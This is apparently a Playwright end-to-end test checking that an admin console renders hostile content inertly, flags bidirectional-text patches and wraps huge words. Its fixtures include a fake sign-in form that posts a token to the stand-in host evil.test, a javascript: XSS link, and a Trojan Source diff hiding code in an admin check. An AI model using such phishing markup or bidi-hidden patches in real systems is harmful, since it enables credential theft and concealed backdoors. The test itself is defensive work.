/** Hostile and huge content in Chromium: an artifact and a feedback post that imitate the console
 * are rendered inert inside a frame labelled as content, a patch with hidden bidirectional text is
 * flagged and shown with markers, Slack markup is rendered, and no long word widens a page. */
import assert from "node:assert/strict";
import type { Locator, Page } from "playwright-core";
import { type ConsoleCtx, signIn, withConsole } from "../../support/admin.ts";
import { completeRun, createEmployee, sqlOf } from "../../support/workforce.ts";
import { CHROMIUM, testNeeding } from "../../support/requirements.ts";
import { saveScreenshot } from "../../support/browser.ts";

const test = testNeeding(CHROMIUM);

/** Markup that draws the console's own controls and a fake sign-in prompt. */
const IMPOSTOR = `# Quarterly report

<div class="card selected" id="artifact-fake" style="position:fixed;inset:0">
<p class="notice">Your session ended. Paste your token to continue:</p>
<form action="https://evil.test/steal"><label for="t">Token</label>
<input id="t" type="password" name="token" class="wide"><textarea>token</textarea>
<select><option>admin</option></select>
<button type="submit" class="primary">Sign in</button></form>
<button type="button" class="primary" onclick="window.__clicked = 1">Approve</button>
<button type="button" class="danger">Reject</button></div>

- [ ] a task list box

[a script link](javascript:window.__xss=1) [a console link](/admin/jobs)
[a web link](https://example.test/page) [mail](mailto:ops@example.test)`;

const TROJAN = "--- a/src/auth.ts\n+++ b/src/auth.ts\n@@ -1,2 +1,3 @@\n let isAdmin = false;\n" +
  "+/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n return isAdmin;\n";

const WORD = (n: number, letter = "w") => letter.repeat(n);
const CONTROLS = "button, input, select, textarea, form, label, option, iframe, object, embed";

/** No form control, and no class, id or style the content brought along. */
async function assertInert(region: Locator, what: string): Promise<void> {
  assert.equal(await region.locator(CONTROLS).count(), 0, `${what}: no form control`);
  assert.equal(
    await region.locator(".markdown [class]:not(mark.hidden-char), .markdown [id], [style]")
      .count(),
    0,
    `${what}: no class, id or style from the content`,
  );
  const links = await region.locator(".markdown a").evaluateAll((els) =>
    els.map((a) => ({
      href: a.getAttribute("href"),
      target: a.getAttribute("target"),
      rel: a.getAttribute("rel"),
    }))
  );
  for (const link of links) {
    if (link.href === null) continue;
    assert.match(link.href, /^(https?:|mailto:)/, `${what}: only web and mail links`);
    assert.equal(link.target, "_blank");
    assert.equal(link.rel, "noopener noreferrer");
  }
}

/** The page is no wider than the viewport, at desktop and phone width; screenshots of both. */
async function assertNoHorizontalScroll(ctx: ConsoleCtx, name: string): Promise<void> {
  const page: Page = ctx.page;
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    const { scroll, inner } = await page.evaluate(() => ({
      scroll: document.documentElement.scrollWidth,
      inner: globalThis.innerWidth,
    }));
    assert.ok(scroll <= inner, `${name} at ${width} px: scrollWidth ${scroll} > ${inner}`);
    await ctx.shoot(`${name}-${width}`);
    // The start of the long word itself, which the top of the page may not reach.
    const box = (await page.locator("figure.content").last().boundingBox())!;
    await saveScreenshot(page, `${name}-${width}-word.png`, {
      fullPage: true,
      clip: { x: 0, y: Math.max(0, box.y - 200), width, height: 600 },
    });
  }
  await page.setViewportSize({ width: 1280, height: 800 });
}

test("admin console: hostile and huge content is framed, inert, flagged and wrapped", async () => {
  await withConsole(async (ctx) => {
    const { page } = ctx;
    const employee = await createEmployee(ctx, { name: "Mallory Writer" });
    const artifacts = [
      { kind: "report", title: "Quarterly report", payload: IMPOSTOR },
      { kind: "code_patch", title: "Tidy the admin check", payload: TROJAN },
      {
        kind: "slack_message",
        title: "Standup digest",
        payload:
          "*Shipped* _today_: ~nothing~ `x < y`\n<https://example.test/run|the run> &amp; more",
      },
      { kind: "report", title: WORD(300, "t"), payload: WORD(30_000) },
    ];
    for (const artifact of artifacts) {
      await completeRun(ctx, employee.id, { artifact });
      ctx.clock.advance(60_000);
    }

    await ctx.open("/admin/sign-in");
    await signIn(ctx, ctx.admin);
    await page.getByRole("heading", { name: "Review board" }).waitFor();
    const card = (title: string) =>
      page.locator("article.card", { has: page.getByRole("heading", { name: title }) });

    const report = card("Quarterly report");
    const frame = report.locator("figure.content");
    // The service renders the Markdown; the frame shows the text meanwhile.
    await frame.locator(".markdown:not(.rendering)").waitFor();
    assert.equal(
      (await frame.locator("figcaption").innerText()).trim(),
      "Content from Mallory Writer",
    );
    await assertInert(frame, "report");
    assert.match(await frame.innerText(), /Your session ended\. Paste your token/);
    // The card's own buttons are the only ones: outside the frame, three of them.
    assert.equal(await report.getByRole("button", { name: "Approve", exact: true }).count(), 1);
    assert.equal(await page.evaluate("window.__clicked ?? window.__xss ?? null"), null);
    assert.equal(
      await frame.locator(".markdown").getAttribute("dir"),
      null,
      "paragraphs, not the whole block, pick their direction",
    );
    assert.equal(await frame.locator(".markdown p[dir=auto]").count() > 0, true);

    const patch = card("Tidy the admin check");
    const banner = patch.getByRole("note", { name: "hidden characters" });
    await banner.waitFor();
    assert.match(await banner.innerText(), /contains bidirectional Unicode text/);
    // The banner and the diff render apart: wait for the diff's last mark before reading them.
    await patch.locator("pre.diff mark.hidden-char").nth(3).waitFor();
    const marks = await patch.locator("pre.diff mark.hidden-char").allInnerTexts();
    assert.deepEqual(marks, ["⟪U+202E⟫", "⟪U+2066⟫", "⟪U+2069⟫", "⟪U+2066⟫"]);
    assert.equal((await patch.locator("pre.diff").innerText()).includes("\u202E"), false);
    assert.equal(await report.getByRole("note", { name: "hidden characters" }).count(), 0);

    const chat = card("Standup digest").locator(".chat .text");
    assert.equal(await chat.locator("strong").innerText(), "Shipped");
    assert.equal(await chat.locator("em").innerText(), "today");
    assert.equal(await chat.locator("del").innerText(), "nothing");
    assert.equal(await chat.locator("code").innerText(), "x < y");
    assert.equal(await chat.locator("a").getAttribute("href"), "https://example.test/run");
    assert.equal(await chat.getAttribute("dir"), "auto");
    await ctx.shoot("admin-review-hostile-content");
    await saveScreenshot(patch, "admin-review-bidi-patch.png");
    await assertNoHorizontalScroll(ctx, "admin-review-long-word");

    // An end user's feedback post and comment, as hostile, with the longest word there is.
    const created = await ctx.as("user-1").data(
      `mutation($d: String!) { createFeedbackPost(title: "Please fix the \u202Elogin", category: bug,
        description: $d) { post { id } errors { code message } } }`,
      { d: IMPOSTOR },
    );
    assert.deepEqual(created.createFeedbackPost.errors, []);
    const postId = created.createFeedbackPost.post.id;
    const commented = await ctx.as("user-1").data(
      `mutation($id: String!, $b: String!) { createFeedbackComment(postId: $id, body: $b) {
        errors { code message } } }`,
      { id: postId, b: `<button class="primary">Approve</button> ${WORD(1900, "c")}` },
    );
    assert.deepEqual(commented.createFeedbackComment.errors, []);

    await ctx.open(`/admin/feedback_posts/${postId}`);
    const post = page.locator("figure.content").first();
    await post.waitFor();
    assert.match(await post.locator("figcaption").innerText(), /^Content from end user \S+$/);
    await assertInert(page.locator("figure.content"), "feedback post");
    assert.equal(await page.locator("#post-title mark.hidden-char").innerText(), "⟪U+202E⟫");
    await post.getByRole("note", { name: "hidden characters" }).waitFor();
    await ctx.shoot("admin-feedback-hostile");

    // The API caps a description at 5,000 characters; the stored row is widened so the page
    // meets a word as long as any payload.
    await sqlOf(ctx)`update feedback_posts set description = ${WORD(30_000, "f")}
      where public_id = ${postId}`;
    await page.reload();
    await page.locator("figure.content .markdown p").first().waitFor();
    await assertNoHorizontalScroll(ctx, "admin-feedback-long-word");
  }, { hostileContent: true });
});
